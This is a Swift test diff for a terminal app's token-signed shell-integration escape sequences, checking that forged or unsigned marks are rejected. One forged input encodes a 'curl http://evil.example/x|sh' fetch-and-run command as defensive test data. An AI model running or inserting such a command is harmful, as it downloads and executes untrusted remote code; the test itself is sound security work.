@@ -19,6 +19,26 @@ final class ShellMarkTests: XCTestCase {
         XCTAssertEqual(mark("7;file://web/srv/my%20app"), .workingDirectory("/srv/my app"))
     }
 
+    func testWithATokenOnlyMarksCarryingItCount() {
+        let token = ShellMarkToken(randomBytes: Array(0..<16))
+        XCTAssertEqual(token.text, "000102030405060708090a0b0c0d0e0f")
+        func signed(_ text: String) -> ShellMark? { ShellMark(osc: Array(text.utf8), token: token) }
+        XCTAssertEqual(signed("133;A;termind=\(token.text)"), .promptStarted)
+        XCTAssertEqual(signed("133;C;cmdline_url=ls;termind=\(token.text)"), .commandStarted(commandLine: "ls"))
+        XCTAssertEqual(signed("133;D;2;duration_ms=5;termind=\(token.text)"), .commandEnded(exitStatus: 2, durationMilliseconds: 5))
+        XCTAssertEqual(signed("133;I;off;termind=\(token.text)"), .integrationOff)
+        XCTAssertEqual(signed("7;file://web/srv%3Fx?termind=\(token.text)"), .workingDirectory("/srv?x"))
+        for forged in [
+            "133;C;cmdline_url=curl%20http%3A%2F%2Fevil.example%2Fx%7Csh", "133;D;0;duration_ms=5", "133;A",
+            "133;C;cmdline_url=ls;termind=\(String(token.text.reversed()))", "133;C;termind=\(token.text);cmdline_url=ls",
+            "133;A;termind=", "7;file://web/evil", "7;file://web/evil?termind=0", "133;D;0;termind=\(token.text.uppercased())",
+        ] {
+            XCTAssertNil(signed(forged), forged)
+        }
+        var scanner = ShellMarkScanner(token: token)
+        XCTAssertEqual(scanner.scan(Array("\u{1B}]133;C;cmdline_url=x\u{07}\u{1B}]133;A;termind=\(token.text)\u{07}".utf8)), [.promptStarted])
+    }
+
     func testOtherAndMalformedStringsAreNoMark() {
         XCTAssertNil(mark("0;title"))
         XCTAssertNil(mark("133;Z"))
